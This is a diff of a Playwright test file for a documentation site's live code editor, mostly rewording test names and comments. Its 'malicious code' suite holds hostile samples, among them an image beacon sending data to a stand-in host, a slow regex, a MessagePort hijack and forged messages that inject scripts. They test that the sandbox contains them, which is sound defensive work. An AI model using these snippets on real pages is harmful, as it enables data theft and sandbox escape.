@@ -50,7 +50,7 @@ const plainCode = (body: string, before = ''): string => `${before}export defaul
 describe('live editing', () => {
   let editor: LiveCard | undefined;
 
-  it('loads no editor, compiler or package table before it is asked for', async () => {
+  it('loads no editor, compiler or package table until the reader opens the editor', async () => {
     const requests: string[] = [];
     const { page, close } = await site.open('/', {
       before: async (opened) => opened.on('request', (request) => requests.push(new URL(request.url()).pathname)),
@@ -62,14 +62,14 @@ describe('live editing', () => {
     expect(requests.filter((name) => late.test(name))).toEqual([]);
     await page.getByRole('button', { name: 'Edit code' }).last().click();
     await page.locator('.live-editor').first().waitFor();
-    // The frame is made before the first change, so that this finds it warm.
+    // The frame is created before the first change, so that the change finds it ready.
     await page.locator('.live-frame[data-waiting]').waitFor({ state: 'attached' });
     await expect.poll(() => requests.some((name) => name.includes('compiler-'))).toBe(true);
     expect(await page.locator(`${card('plain')} [data-demo-root]`).innerText()).toBe('plain text');
     await close();
   });
 
-  it('has compiled the files when the first change comes, and compiles what changed', async () => {
+  it('has compiled all files before the first change, and then compiles only changed ones', async () => {
     const { page, close } = await site.open('/', {
       before: (opened) =>
         opened.addInitScript(() => {
@@ -101,7 +101,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('shows an edit in the frame, the text as it was after a reset', async () => {
+  it('shows an edit in the frame, and the original demo after a reset', async () => {
     const { page, messages, close } = await site.open('/');
     const live = await editDemo(page, card('greeting'));
     await live.write(greeting.replace('Hello', 'Good morning'));
@@ -119,7 +119,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('gives edited code `global`, as the bundler gives it the demos', async () => {
+  it('provides `global` to edited code, as the bundler does for demos', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode("  global.word = 'kept';\n  return <p>{global.word} by all</p>;"));
@@ -127,7 +127,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('edits every file: a module, a Less sheet and the Less that it imports', async () => {
+  it('edits every file: a module, a Less style sheet and the Less file that it imports', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('greeting'));
     const names = await live.card.locator('.tab').allTextContents();
@@ -162,7 +162,7 @@ describe('live editing', () => {
       'index.tsx:1:15',
     ],
     [
-      'what rendering throws',
+      'an error during rendering',
       plainCode("  const a = 1;\n  throw new Error('broken ' + a);"),
       /^broken 1/,
       'index.tsx:3:9',
@@ -192,8 +192,8 @@ describe('live editing', () => {
       /^in an effect/,
       'index.tsx:4:11',
     ],
-  ])('tells %s with its place, and keeps the last good result', async (_, code, message, place) => {
-    // One editor for all of them, as long as it survives.
+  ])('reports %s with its location, and keeps the last good result', async (_, code, message, place) => {
+    // All cases share one editor, as long as it survives.
     const live = editor ?? (await editDemo((await site.open('/')).page, card('plain')));
     editor = undefined;
     await live.write(plainCode('  return <p>the last good one</p>;'));
@@ -204,14 +204,14 @@ describe('live editing', () => {
     expect(text).toMatch(message);
     expect(text).toContain(place);
     await frame.getByText('the last good one').waitFor();
-    // The fix clears it.
+    // The fix clears the error.
     await live.write(plainCode('  return <p>mended</p>;'));
     await frame.getByText('mended').waitFor();
     await live.card.locator('.live-failure').waitFor({ state: 'detached' });
     editor = live;
   });
 
-  it('tells what happens later: an event handler, a rejected promise, an emptied root', async () => {
+  it('reports late errors: of an event handler, of a rejected promise, and an emptied root', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(
@@ -246,7 +246,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('follows colour scheme and language, and is as high as what is in it', async () => {
+  it('follows color scheme and language, and is at least as high as its content', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p style={{ height: 700 }}>high</p>;'));
@@ -267,7 +267,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('lets the keyboard out: Tab indents, Escape and then Tab leave', async () => {
+  it('lets the keyboard out: Tab indents, Escape followed by Tab leaves', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     const area = live.card.locator('.live-editor textarea').first();
@@ -283,7 +283,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('says that it works when compiling takes long', async () => {
+  it('shows that it is loading when compiling takes long', async () => {
     const { before, release } = hold('**/compiler-*.js');
     const { page, close } = await site.open('/', { before });
     const live = await editDemo(page, card('plain'));
@@ -295,7 +295,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('says why the frame did not start', async () => {
+  it('reports why the frame did not start', async () => {
     const { page, close } = await site.open('/', {
       before: (opened) => opened.route('**/~sandbox.html', (route) => route.fulfill({ status: 404, body: 'no' })),
     });
@@ -306,7 +306,7 @@ describe('live editing', () => {
     await close();
   });
 
-  it('leaves nothing behind when the visitor goes to another page', async () => {
+  it('leaves nothing behind when the reader goes to another page', async () => {
     const { page, messages, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p>edited</p>;'));
@@ -327,8 +327,8 @@ describe('live editing', () => {
   });
 });
 
-describe('demo and code while it is edited', () => {
-  it('stand side by side in a wide window, divided by a handle that is remembered', async () => {
+describe('demo and code during editing', () => {
+  it('are side by side in a wide window, divided by a handle whose position is remembered', async () => {
     const { page, messages, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     const handle = live.card.getByRole('slider');
@@ -368,7 +368,7 @@ describe('demo and code while it is edited', () => {
 
   it.each([
     390, 768,
-  ])('stand close together %i pixels wide, the demo below the header, and nothing jumps', async (width) => {
+  ])('are close together in a window of %i pixels, with the demo below the header and no layout shift', async (width) => {
     const { page, close } = await site.open('/', { viewport: { width, height: 844 } });
     const live = await editDemo(page, card('greeting'));
     await live.card.locator('.demo-handle').waitFor({ state: 'attached' });
@@ -394,7 +394,7 @@ describe('demo and code while it is edited', () => {
     await close();
   });
 
-  it('has what is wrong at its line, and below the code', async () => {
+  it('show an error at its line and below the code', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p>;'));
@@ -415,8 +415,8 @@ describe('demo and code while it is edited', () => {
   });
 });
 
-describe('what an edited demo may do', () => {
-  it('has elements that load or hold a document: they do nothing, and the box names them once', async () => {
+describe('an edited demo', () => {
+  it('cannot use elements that load or contain a document, and the message names them once', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(
@@ -436,7 +436,7 @@ describe('what an edited demo may do', () => {
     await close();
   });
 
-  it('gets no elements that hold a document by pasting or dropping: the rest of what is pasted comes', async () => {
+  it('gets no elements that contain a document by pasting or dropping, but the rest of the pasted content', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     const markup =
@@ -471,7 +471,7 @@ ${plainCode(`  return (
     await close();
   });
 
-  it('hears forms on hosts that send the headers of the build', async () => {
+  it('receives form submissions on hosts that send the headers of the build', async () => {
     const headers = await fs.readFile(path.join(fixture.root, 'dist/_headers'), 'utf8');
     const [, policy = ''] = /~sandbox\.html\n {2}Content-Security-Policy: (.+)/.exec(headers) ?? [];
     expect(policy).toContain('sandbox');
@@ -495,7 +495,7 @@ ${plainCode(`  return (
     await close();
   });
 
-  it('is a million characters long: what is longer is told, and no link is made of it', async () => {
+  it('is limited to a million characters: longer code is reported, and gets no link', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p>short</p>;'));
@@ -511,7 +511,7 @@ ${plainCode(`  return (
     await close();
   });
 
-  it('has style sheets of a million characters', async () => {
+  it('is limited to a million characters of style sheets', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('greeting'));
     const sheet = ["@a0: '0123456789';"];
@@ -524,7 +524,7 @@ ${plainCode(`  return (
   });
 });
 
-describe('in a hurry', () => {
+describe('quick actions', () => {
   it('a double click opens one editor', async () => {
     const { page, close } = await site.open('/');
     await page.locator(`${card('plain')}[data-hydrated]`).waitFor();
@@ -537,7 +537,7 @@ describe('in a hurry', () => {
     await close();
   });
 
-  it('a reset while the frame is being made leaves none', async () => {
+  it('a reset leaves no frame that was still being created', async () => {
     const { before, release } = hold('**/compiler-*.js');
     const { page, close } = await site.open('/', { before });
     const live = await editDemo(page, card('plain'));
@@ -551,13 +551,14 @@ describe('in a hurry', () => {
     await close();
   });
 
-  it('a result that comes late does not take the place of a newer one', async () => {
+  it('a late result does not replace a newer one', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(
       "import { use } from 'react';\nconst never = new Promise(() => {});\nexport default () => <p>{use(never)}</p>;\n",
     );
-    // Long enough for it to be sent, and in the end for the page to give it up: one that is never rendered says nothing.
+    // Waits until the code has been sent, and later until the page gives it up: code that never renders sends no
+    // message.
     await whileNothingHappens(page, 600);
     await live.write(plainCode('  return <p>newer</p>;'));
     await (await live.frame()).getByText('newer').waitFor();
@@ -566,7 +567,7 @@ describe('in a hurry', () => {
     await close();
   });
 
-  it('a damaged address does not take the way back', async () => {
+  it('a damaged link does not prevent a reset', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p>mine</p>;'));
@@ -584,7 +585,7 @@ describe('in a hurry', () => {
     await close();
   });
 
-  it('an export waits for what Less makes of an edit', async () => {
+  it('an export waits until Less has compiled an edit', async () => {
     const { page, close } = await site.open('/');
     const live = await editDemo(page, card('greeting'));
     await live.write('.greeting { color: @nothing }', 2);
@@ -595,8 +596,8 @@ describe('in a hurry', () => {
   });
 });
 
-describe('a link to what was edited', () => {
-  it('opens a demo far down the page, and another link to it starts from what was published', async () => {
+describe('a link to an edited demo', () => {
+  it('opens a demo far down the page, and another link to it starts from the published code', async () => {
     const first = await writeEditHash('docs-far-demo-plain', { 'index.tsx': plain.replace('plain text', 'first') });
     const second = await writeEditHash('docs-far-demo-plain', { 'index.tsx': plain.replace('plain text', 'second') });
     const { page, close } = await site.open(`/far${first}`);
@@ -617,7 +618,7 @@ describe('a link to what was edited', () => {
     await close();
   });
 
-  it('restores every edited file, marked as edited, and has a way back', async () => {
+  it('restores every edited file, marked as edited, and can be reset', async () => {
     const { page, close } = await site.open('/', { permissions: ['clipboard-read', 'clipboard-write'] });
     const live = await editDemo(page, card('greeting'));
     await live.write(greeting.replace('Hello', 'Bonjour'));
@@ -640,7 +641,7 @@ describe('a link to what was edited', () => {
     await close();
   });
 
-  it('runs nothing before "Run", whatever is typed, and says whose code it is', async () => {
+  it('runs nothing before "Run", whatever is typed, and says that somebody else changed the code', async () => {
     const hash = await writeEditHash('docs-demo-greeting', {
       'lib/names.ts': "export const names = ['Mallory'];\n",
       'index.tsx': greeting.replace('Hello', 'Beware'),
@@ -665,13 +666,13 @@ describe('a link to what was edited', () => {
     expect(requests.filter((name) => /(?:compiler|sandbox).*\.(?:js|html)$/.test(name))).toEqual([]);
     expect(await live.card.locator('[data-demo-root]').innerText()).toBe('Hello Ada');
     await live.card.getByText('Show Code').click();
-    // The keyboard comes to the button before the code, and stays on it.
+    // The keyboard reaches the button before the code, and the focus stays on it.
     await live.button('Run').focus();
     await page.keyboard.press('Enter');
     await (await live.frame()).getByRole('button', { name: 'Beware Mallory' }).waitFor();
     expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Run again');
     expect(await note.count()).toBe(0);
-    // From here on, what is typed runs.
+    // From now on, typed code runs.
     await live.write(greeting.replace('Hello', 'Welcome'));
     await (await live.frame()).getByRole('button', { name: 'Welcome Mallory' }).waitFor();
     expect(await live.card.locator('.link-note').innerText()).toMatch(/^Somebody else changed this code/);
@@ -683,7 +684,7 @@ describe('a link to what was edited', () => {
     await close();
   });
 
-  it('waits for "Run" again when it comes while another one runs, and when it was stopped', async () => {
+  it('waits for "Run" again when it is opened while another one runs, and after it was stopped', async () => {
     const link = (body: string) => writeEditHash('docs-demo-plain', { 'index.tsx': plainCode(body) });
     const { page, close } = await site.open(`/${await link('  return <p>first</p>;')}`);
     const live = liveCard(page.locator(card('plain')));
@@ -711,7 +712,7 @@ describe('a link to what was edited', () => {
     await close();
   });
 
-  it('shows the file that it has changed', async () => {
+  it('selects the file that it changes', async () => {
     const hash = await writeEditHash('docs-demo-greeting', { 'colours.less': '@ink: rgb(9, 9, 9);' });
     const { page, close } = await site.open(`/${hash}`);
     const live = liveCard(page.locator(card('greeting')));
@@ -719,7 +720,7 @@ describe('a link to what was edited', () => {
     await close();
   });
 
-  it('says that a damaged one is damaged', async () => {
+  it('is reported when it is damaged', async () => {
     const unknown = await site.open('/#edit=docs-demo-none.AAAA');
     expect(await unknown.page.locator('.live-failure').count()).toBe(0);
     const id = await unknown.page.locator(card('plain')).getAttribute('data-demo');
@@ -731,8 +732,8 @@ describe('a link to what was edited', () => {
   });
 });
 
-describe('code that means harm', () => {
-  /** Gets hold of the port by which the frame talks to the page. */
+describe('malicious code', () => {
+  /** Obtains the port through which the frame talks to the page. */
   const withPort = `import { useEffect } from 'react';
 function withPort(use) {
   const { postMessage } = MessagePort.prototype;
@@ -781,7 +782,7 @@ function withPort(use) {
       /kept answering too slowly/,
     ],
     [
-      'a regular expression that takes ages',
+      'a slow regular expression',
       plainCode("  return <p>{String(/^(a+)+$/.test('a'.repeat(40) + 'b'))}</p>;"),
       /did not answer for 2 seconds/,
     ],
@@ -807,7 +808,7 @@ function withPort(use) {
       /connect-src is closed|Failed to fetch|NetworkError/,
     ],
     [
-      'a picture that tells',
+      'a picture that sends data',
       plainCode("  new Image().src = 'https://stranger.example/?stolen';\n  return <p>x</p>;"),
       /cannot reach https:\/\/stranger\.example.*img-src is closed/,
     ],
@@ -833,7 +834,7 @@ function withPort(use) {
       /flooded the page/,
     ],
     [
-      'a message that is no text',
+      'a message that is not text',
       plainCode(
         '  useEffect(() => withPort((port) => port.postMessage(new Uint8Array(9))), []);\n  return <p>x</p>;',
         withPort,
@@ -846,7 +847,7 @@ function withPort(use) {
       /^long long/,
     ],
     [
-      'a document of its own',
+      'its own document',
       plainCode(
         '  useEffect(() => { document.open(); document.write("x"); }, []);\n  return <p>x</p>;',
         "import { useEffect } from 'react';\n",
@@ -855,31 +856,34 @@ function withPort(use) {
     ],
   ];
 
-  it.each(attacks)('%s: the page stays, the text is kept, the box says what happened', async (name, code, says) => {
-    // A page that is held up by its frame stands still until the frame is given up, which is after two seconds.
+  it.each(
+    attacks,
+  )('%s: the page stays, the text is kept, and the message says what happened', async (name, code, says) => {
+    // If a frame blocks the page, the gap lasts until the frame is given up, which takes two seconds.
     expect(await attack(name, code, says)).toBeLessThan(1_500);
   });
 
-  /** A page to be attacked, and its longest gap while nothing is done, in milliseconds. */
+  /** A page to attack, and its longest gap while it is idle, in milliseconds. */
   interface Target {
     page: Page;
     live: LiveCard;
     idle: number;
   }
-  /** One page for all attacks, as long as it survives them. */
+  /** All attacks share one page, as long as it survives them. */
   let target: Target | undefined;
 
   async function openTarget(): Promise<Target> {
-    // Frames of tabs that stand beside each other may share a process, and one that hangs would hold all of them.
+    // Frames of tabs that are open at the same time may share a process, so that one that hangs would block all of
+    // them.
     const { page } = await site.open('/', { beside: false });
     const live = await editDemo(page, card('plain'));
-    // What loading and first rendering take is no matter of the attack.
+    // Loading and first rendering are not part of the attack.
     await live.write(plainCode('  return <p>harmless</p>;'));
     await (await live.frame()).getByText('harmless').waitFor();
     return { page, live, idle: await longestGap(page, () => whileNothingHappens(page)) };
   }
 
-  /** Gap of the attacked page above that of the idle page, in milliseconds. */
+  /** Returns by how much the gap of the attacked page exceeds that of the idle page, in milliseconds. */
   async function attack(name: string, code: string, says: RegExp): Promise<number> {
     const attacked = target ?? (await openTarget());
     target = undefined;
@@ -890,7 +894,7 @@ function withPort(use) {
     });
     expect(await live.read()).toBe(code);
     expect(await page.title()).toBe('Home');
-    // It works on.
+    // The demo still works.
     await live.write(plainCode(`  return <p>after {${JSON.stringify(name)}}</p>;`));
     await (await live.frame()).getByText(`after ${name}`, { exact: true }).waitFor();
     await live.card.locator('.live-failure').waitFor({ state: 'detached' });
@@ -898,7 +902,7 @@ function withPort(use) {
     return busy - idle;
   }
 
-  it('is heard no more when a stranger has taken its frame, whose page never ends', async () => {
+  it('is ignored after it has replaced its frame with an untrusted page that never finishes loading', async () => {
     const stranger = http.createServer((_, response) => {
       response.setHeader('Content-Type', 'text/html');
       response.write(`<script>
@@ -926,7 +930,7 @@ function withPort(use) {
     stranger.close();
   });
 
-  it('cannot be made to run by messages of strangers', async () => {
+  it('is not run by forged messages', async () => {
     const { page, messages, close } = await site.open('/');
     const live = await editDemo(page, card('plain'));
     await live.write(plainCode('  return <p>mine</p>;'));
@@ -951,7 +955,7 @@ function withPort(use) {
     '/other',
     '/~demos/docs-demo-plain',
     '/~sandbox.html#nonce',
-  ])('%s does nothing for 200 messages of another origin', async (path) => {
+  ])('%s ignores 200 messages from another origin', async (path) => {
     const { page, close } = await site.open('/other');
     await page
       .context()
@@ -967,7 +971,7 @@ function withPort(use) {
     opened.on('console', (message) => said.push(message.text()));
     opened.on('pageerror', (error) => said.push(error.message));
     await opened.waitForLoadState();
-    // What its own scripts do to it comes first.
+    // Its own scripts may still change it.
     let before = '';
     await expect
       .poll(
@@ -1015,7 +1019,7 @@ function withPort(use) {
       await new Promise((resolve) => frame.addEventListener('load', resolve));
       const setup = { type: 'setup', nonce: 'nonce', scripts: ['parent.document.title = "taken"'], source: {} };
       frame.contentWindow?.postMessage(setup, '*');
-      // Nothing tells that a document has not run what it was sent.
+      // A document that ignores a message sends no event to wait for.
       await new Promise((resolve) => setTimeout(resolve, 300));
       return [document.title, heard];
     });
